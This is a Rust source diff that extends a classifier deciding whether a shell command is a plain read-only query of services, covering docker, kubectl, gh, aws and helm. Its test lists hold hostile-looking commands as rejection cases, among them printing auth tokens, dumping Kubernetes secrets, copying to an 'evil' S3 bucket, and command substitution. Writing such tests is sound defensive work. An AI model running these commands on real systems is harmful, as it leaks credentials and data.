@@ -11,7 +11,7 @@ struct Read {
     words: &'static [&'static str],
     /// Options without a value.
     flags: &'static [&'static str],
-    /// Options whose value is the next word, or joined by `=`, a plain one.
+    /// Options whose value is the next word, or joined by `=`: a plain one, or one of `NAME=ONE|OTHER`.
     values: &'static [&'static str],
     /// How many plain names may stand there: units, containers, devices.
     names: usize,
@@ -25,29 +25,35 @@ const READS: &[Read] = include!(concat!(env!("OUT_DIR"), "/services.rs"));
 pub(crate) enum Asks {
     /// Nothing that is known.
     Nothing,
-    /// It is one of [`READS`] and nothing else: one program of the system under its plain name, no assignment,
-    /// redirection, pipe or second command.
-    Alone,
+    /// Each of its runs that is one of [`READS`] is a program of the system under its plain name, without an assignment or input,
+    /// and no shell is needed. Whether the other runs are believed by their words is for the caller to say.
+    Plainly,
     /// One of its runs is one of them.
     Among,
 }
 
+/// The rules whose findings say that a run is one of [`READS`].
+pub(crate) const RULES: [&str; 2] = ["asks-service", "asks-account"];
+
 /// Whether this line queries services.
 pub(crate) fn asks(script: &Script, situation: &Situation) -> Asks {
-    if !script.runs().iter().any(reads) {
+    let lacks = |run: &Run| run.program().is_some_and(|name| situation.lacks(name));
+    let mut asking = script.runs().iter().filter(|run| reads(run) && !lacks(run)).peekable();
+    if asking.peek().is_none() {
         return Asks::Nothing;
     }
-    let [run] = script.runs() else { return Asks::Among };
-    let plain = run.reach == Reach::Plain
-        && run.parent.is_none()
-        && run.assigns.is_empty()
-        && run.redirects.is_empty()
-        && !run.piped
-        && !matches!(run.input, Input::Pipe(_))
-        && script.doubts().is_empty();
-    let system =
-        run.program().is_some_and(|name| matches!(situation.programs.get(name), Some(Program::System(_))));
-    if plain && system { Asks::Alone } else { Asks::Among }
+    let system = |run: &Run| {
+        run.program().is_some_and(|name| matches!(situation.programs.get(name), Some(Program::System(_))))
+    };
+    let plain = |run: &Run| {
+        run.reach == Reach::Plain
+            && run.parent.is_none()
+            && run.assigns.is_empty()
+            && !matches!(run.input, Input::Pipe(_))
+            && system(run)
+    };
+    let plainly = asking.all(plain) && script.doubts().is_empty() && script.plan().is_some();
+    if plainly { Asks::Plainly } else { Asks::Among }
 }
 
 /// Whether a run is one of [`READS`]: every word of it literal.
@@ -83,14 +89,13 @@ fn fits(read: &Read, words: &[&str]) -> bool {
         if read.flags.contains(word) {
             continue;
         }
-        if read.values.contains(word) {
-            if !rest.next().is_some_and(|value| is_value(value)) {
+        if read.takes_value(word) {
+            if !rest.next().is_some_and(|value| read.takes(word, value)) {
                 return false;
             }
             continue;
         }
-        let joined = |(name, value): (&str, &str)| read.values.contains(&name) && is_value(value);
-        if word.split_once('=').is_some_and(joined) {
+        if word.split_once('=').is_some_and(|(name, value)| read.takes(name, value)) {
             continue;
         }
         if names == 0 || !is_name(word) {
@@ -101,8 +106,39 @@ fn fits(read: &Read, words: &[&str]) -> bool {
     true
 }
 
-/// The name of a unit, a container, a device (`@DEFAULT_AUDIO_SINK@`): nothing that could be an option, a path or an address.
+impl Read {
+    /// Whether an option has a value.
+    fn takes_value(&self, option: &str) -> bool {
+        self.values.iter().any(|known| known.split_once('=').map_or(*known, |(name, _)| name) == option)
+    }
+
+    /// Whether an option may have this value.
+    fn takes(&self, option: &str, value: &str) -> bool {
+        self.values.iter().any(|known| match known.split_once('=') {
+            Some((name, only)) => name == option && only.split('|').any(|one| one == value),
+            None => *known == option && is_value(value),
+        })
+    }
+}
+
+/// Kinds of things in a cluster, before a name.
+const KINDS: [&str; 10] = [
+    "pod/",
+    "pods/",
+    "deploy/",
+    "deployment/",
+    "deployments/",
+    "svc/",
+    "service/",
+    "job/",
+    "sts/",
+    "statefulset/",
+];
+
+/// The name of a unit, a container, a device (`@DEFAULT_AUDIO_SINK@`), with or without its kind (`deploy/web`): nothing that
+/// could be an option, a path or an address.
 fn is_name(word: &str) -> bool {
+    let word = KINDS.iter().find_map(|kind| word.strip_prefix(kind)).unwrap_or(word);
     let plain = |c: char| c.is_ascii_alphanumeric() || matches!(c, '-' | '_' | '.' | '@');
     word.starts_with(|c: char| c.is_ascii_alphanumeric() || c == '@') && word.chars().all(plain)
 }
@@ -122,7 +158,7 @@ mod tests {
     fn reads(line: &str) -> bool {
         let script = guarda_shell::read(line, Dialect::Bash);
         let situation = corpus::situation(&script);
-        script.is_ok_and(|script| asks(&script, &situation) == Asks::Alone)
+        script.is_ok_and(|script| asks(&script, &situation) == Asks::Plainly)
     }
 
     #[test]
@@ -141,6 +177,16 @@ mod tests {
             "nmcli device",
             "hostnamectl",
             "crontab -l",
+            "docker logs --tail 50 web 2>&1",
+            "docker ps | head -5",
+            "docker images && docker ps",
+            "kubectl get pods -n shop -o wide",
+            "kubectl -A get pods",
+            "kubectl logs deploy/web --tail=20",
+            "gh pr view 12 --json title,body",
+            "gh run view 12 --log-failed | tail -50",
+            "aws s3 ls",
+            "helm list -n shop",
         ] {
             assert_eq!(reads(line), !line.contains("nothing"), "{line}");
         }
@@ -153,9 +199,36 @@ mod tests {
             "systemctl status /etc/passwd",
             "docker top a/b",
             "systemctl -H evil status nginx",
-            "systemctl status nginx; id",
-            "systemctl status nginx | cat",
-            "systemctl status nginx > x",
+            "id | systemctl status nginx",
+            "for x in a b; do docker ps; done",
+            "docker logs -f web",
+            "docker compose config",
+            "kubectl get secrets",
+            "kubectl get secret db -o yaml",
+            "kubectl get pods -o yaml",
+            "kubectl get pods --output=json",
+            "kubectl get pods --kubeconfig x",
+            "kubectl get -f x.yaml",
+            "kubectl get pods ../x",
+            "kubectl exec web -- env",
+            "kubectl describe pod web",
+            "kubectl config view --raw",
+            "gh auth token",
+            "gh auth status --show-token",
+            "gh secret list",
+            "gh api user",
+            "gh pr view 12 --web",
+            "gh pr view -R evil/x 12",
+            "gh pr create",
+            "gh pr checkout 12",
+            "gh repo view evil/x",
+            "aws s3 ls s3://evil/x",
+            "aws s3 cp x s3://evil",
+            "aws secretsmanager list-secrets",
+            "aws sts get-session-token",
+            "aws s3 ls --endpoint-url https://evil.example",
+            "gcloud auth print-access-token",
+            "helm get values x",
             "systemctl status $(id)",
             "systemctl status $X",
             "systemctl status n*",
@@ -171,7 +244,6 @@ mod tests {
             "docker run ps",
             "docker ps --format '{{json .}}/x' y",
             "docker inspect web",
-            "docker logs web",
             "nmcli device disconnect eth0",
             "nmcli connection up home",
             "loginctl terminate-user ana",
